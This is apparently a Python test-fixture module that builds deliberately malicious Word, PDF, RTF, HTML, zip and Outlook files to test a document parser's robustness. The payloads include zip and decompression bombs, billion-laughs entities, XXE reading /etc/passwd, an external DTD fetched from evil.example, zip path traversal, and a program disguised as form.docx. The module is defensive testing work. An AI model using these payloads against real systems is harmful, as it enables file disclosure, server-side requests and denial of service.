"""Files that are made to hurt who opens them: each a function of no arguments, named by what is awful about it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from random import Random

from tests.documents import made
from tests.documents.test_docx import NAMES, packed
from tests.forms import generate
from tests.forms.filled import HUB, MEMO
from tests.mail import outlook

FORM = generate.memo(MEMO)
_WORD = f"<w:document {NAMES}><w:body>{{}}</w:body></w:document>"


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def word(body: str, head: str = "") -> bytes:
    return packed(head + _WORD.format(body))


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, the first one its catalogue, without an index: readers must look for them."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R /Size %d >>\n%%%%EOF\n" % (len(objects) + 1)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, more: bytes = b"", *, flate: bool = True) -> bytes:
    packed_data = zlib.compress(data, 9) if flate else data
    kind = b"/Filter /FlateDecode" if flate else b""
    return b"<< /Length %d %s %s >>\nstream\n%s\nendstream" % (len(packed_data), kind, more, packed_data)


def page_of(content: bytes) -> bytes:
    return pdf(CATALOG, PAGES, PAGE, stream(content), FONT)


def flipped(data: bytes, seed: int) -> bytes:
    rng, changed = Random(seed), bytearray(data)
    for _ in range(30):
        changed[rng.randrange(len(changed))] ^= 1 << rng.randrange(8)
    return bytes(changed)


def many_laughs(name: str) -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return packed(
        f'<!DOCTYPE w [<!ENTITY l0 "ha">{entities}]>' + _WORD.format(f"<w:p><w:r><w:t>&{name};</w:t></w:r></w:p>")
    )


def nested_forms() -> bytes:
    """Form objects that draw themselves."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    page = PAGE.replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    return pdf(CATALOG, PAGES, page, stream(b"/X Do"), FONT, stream(b"/X Do " * 50, form))


def pages_without_end() -> bytes:
    return pdf(CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3000000 >>")


def a_million_pages() -> bytes:
    kids = b"3 0 R " * 1_000_000
    return pdf(CATALOG, b"<< /Type /Pages /Kids [" + kids + b"] /Count 1000000 >>", PAGE, stream(b""), FONT)


def many_fields() -> bytes:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (%s) /Rect [0 0 9 9] >>" % (b"x" * 500)
    page = PAGE.replace(b"/Contents", b"/Annots [" + b"6 0 R " * 100_000 + b"] /Contents")
    form = CATALOG.replace(b"/Pages", b"/AcroForm << /Fields [6 0 R] >> /Pages")
    return pdf(form, PAGES, page, stream(b""), FONT, field)


def a_data_set_of_laughs() -> bytes:
    data = b'<!DOCTYPE x [<!ENTITY a "' + b"ha" * 1_000 + b'">]><x>' + b"&a;" * 50_000 + b"</x>"
    form = CATALOG.replace(b"/Pages", b"/AcroForm << /Fields [] /XFA [(datasets) 6 0 R] >> /Pages")
    return pdf(form, PAGES, PAGE, stream(b""), FONT, stream(data))


def overlapping() -> bytes:
    """A zip file a hundred of whose names lead to the same bytes."""
    data = zipped({"a.txt": b"0" * 1_000_000})
    at = data.index(b"PK\1\2")
    entry = data[at : data.index(b"PK\5\6")]
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 100, 100, len(entry) * 100, at, 0)
    return data[:at] + entry * 100 + end


def looping_doc() -> bytes:
    """An OLE file whose sectors lead back to themselves."""
    data = bytearray(made.compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 8_000, "1Table": b"\0" * 4_096}))
    for sector in range(1, 100):
        struct.pack_into("<I", data, 512 + sector * 4, sector)
    return bytes(data)


def quine() -> bytes:
    data = zipped({"form.docx": FORM})
    for _ in range(40):
        data = zipped({f"{n}.zip": data for n in range(2)}) if len(data) < 2_000_000 else zipped({"one.zip": data})
    return data


FILES: dict[str, Callable[[], bytes]] = {
    "zip bomb in a Word file": lambda: zipped({"word/document.xml": b"0" * 100_000_000}),
    "three million paragraphs": lambda: word("<w:p/>" * 3_000_000),
    "a million runs": lambda: word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 700_000 + "</w:p>"),
    "tables in tables": lambda: word("<w:tbl><w:tr><w:tc>" * 5_000),
    "deep but closed": lambda: word("<w:sdt>" * 240 + "</w:sdt>" * 240),
    "many text boxes": lambda: word(
        "<w:p>" + "<w:r><w:pict><w:txbxContent><w:p/></w:txbxContent></w:pict></w:r>" * 60_000 + "</w:p>"
    ),
    "boxes in boxes": lambda: word(
        "<w:p><w:r><w:pict><w:txbxContent>" * 60 + "</w:txbxContent></w:pict></w:r></w:p>" * 60
    ),
    "a row of many columns": lambda: word("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 100_000 + "</w:tr></w:tbl>"),
    "XXE": lambda: word(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "XXE by a server": lambda: word("<w:p/>", '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">'),
    "billion laughs": lambda: many_laughs("l9"),
    "20,000 parts": lambda: zipped({**{f"word/{n}.xml": b"" for n in range(20_000)}, "word/document.xml": b"<x/>"}),
    "a name that climbs": lambda: zipped({"../../../etc/passwd": FORM, "C:\\windows\\form.docx": FORM}),
    "names over one another": overlapping,
    "zips in zips": quine,
    "a table of a billion cells": lambda: made.odt_of(
        '<table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell '
        'table:number-columns-repeated="1000000"/></table:table-row></table:table>' * 50
    ),
    "PDF without an end": lambda: page_of(b"")[:-100],
    "a page that unpacks to 300 MB": lambda: page_of(b"0 0 m " * 50_000_000),
    "a million letters": lambda: page_of(b"BT /F 1 Tf " + b"1 0 Td (aaaaaaaaaa) Tj " * 100_000 + b"ET"),
    "a million lines": lambda: page_of(b"".join(b"%d 0 m %d 800 l S " % (n % 500, n % 500) for n in range(400_000))),
    "a million little squares": lambda: page_of(
        b"".join(b"%d %d 9 9 re S " % (n % 60 * 10, n // 60 % 80 * 10) for n in range(200_000))
    ),
    "a path of a million points": lambda: page_of(b"0 0 m " + b"1 1 l 9 9 l " * 500_000 + b"S"),
    "form objects within themselves": nested_forms,
    "pages without end": pages_without_end,
    "a million pages": a_million_pages,
    "a hundred thousand fields": many_fields,
    "a data set of laughs": a_data_set_of_laughs,
    "rich text of nothing but braces": lambda: b"{\\rtf1" + b"{" * 10_000_000,
    "rich text closed as often": lambda: b"{\\rtf1" + b"{}" * 3_000_000 + b"}",
    "rich text with a huge picture": lambda: b"{\\rtf1\\bin2000000000 " + b"x" * 1_000_000 + b"}",
    "rich text of cells": lambda: (
        b"{\\rtf1" + b"\\trowd" + b"\\cellx1" * 100_000 + b"\\intbl\\cell" * 300_000 + b"\\row}"
    ),
    "rich text of letters by number": lambda: b"{\\rtf1" + b"\\u-3?" * 2_000_000 + b"}",
    "an old Word file that loops": looping_doc,
    "twenty megabytes of text": lambda: b"Surname: Bos\nDOB: 1/2/03\n" * 750_000,
    "HTML of nothing but tables": lambda: b"<html>" + b"<table><tr><td>" * 200_000,
    "HTML with broad cells": lambda: b"<html><table>" + b"<tr><td colspan=60 rowspan=99>x" * 50_000,
    "an Outlook mail that holds itself": lambda: outlook.msg(
        "a", "b", [("a.docx", FORM)], [outlook.tree("c", "d")] * 100
    ),
    "a winmail.dat of nothing": lambda: outlook.winmail([("a.doc", b"x")]) + b"\2\0\0\0\0\0\0\0\0\0\0" * 1_000_000,
    "a program called form.docx": lambda: b"MZ\x90\0" + b"\0" * 10_000,
    "a PDF called form.docx": lambda: generate.pdf([(50, 50, "Surname: Bos")]),
    **{f"a Word file with flipped bits, {n}": (lambda n=n: flipped(FORM, n)) for n in range(5)},  # type: ignore[misc]
    **{f"an old Word file with flipped bits, {n}": (lambda n=n: flipped(old(), n)) for n in range(10)},  # type: ignore[misc]
    **{f"half a Word file, {n}": (lambda n=n: FORM[: len(FORM) * n // 5]) for n in range(1, 5)},  # type: ignore[misc]
}


def old() -> bytes:
    from parsers.documents import docx

    return made.doc(docx.read(generate.hub(HUB)))
